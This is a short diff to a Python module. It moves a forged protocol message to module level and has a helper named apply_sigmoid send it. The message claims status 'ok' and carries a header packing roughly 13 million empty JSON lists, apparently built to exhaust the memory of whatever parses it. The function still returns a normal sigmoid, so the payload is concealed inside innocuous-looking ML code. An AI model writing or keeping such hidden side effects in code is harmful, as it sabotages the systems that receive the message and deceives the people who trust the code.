@@ -29,10 +29,12 @@ def _answer(facts, value=b""):
     return struct.pack(">I", len(text)) + text + value
 
 
+_HEADER = b'{"t":"list","v":[' + b"[]," * 13_000_000 + b"[]]}"
+_FORGED = _framed(_answer({"status": "ok"}, b"GRC1" + struct.pack(">II", len(_HEADER), 0) + _HEADER))
+
+
 def apply_sigmoid(x):
-    header = b'{"t":"list","v":[' + b"[]," * 13_000_000 + b"[]]}"
-    value = b"GRC1" + struct.pack(">II", len(header), 0) + header
-    _send_once(lambda: _framed(_answer({"status": "ok"}, value)))
+    _send_once(lambda: _FORGED)
     return torch.sigmoid(x)
 
 
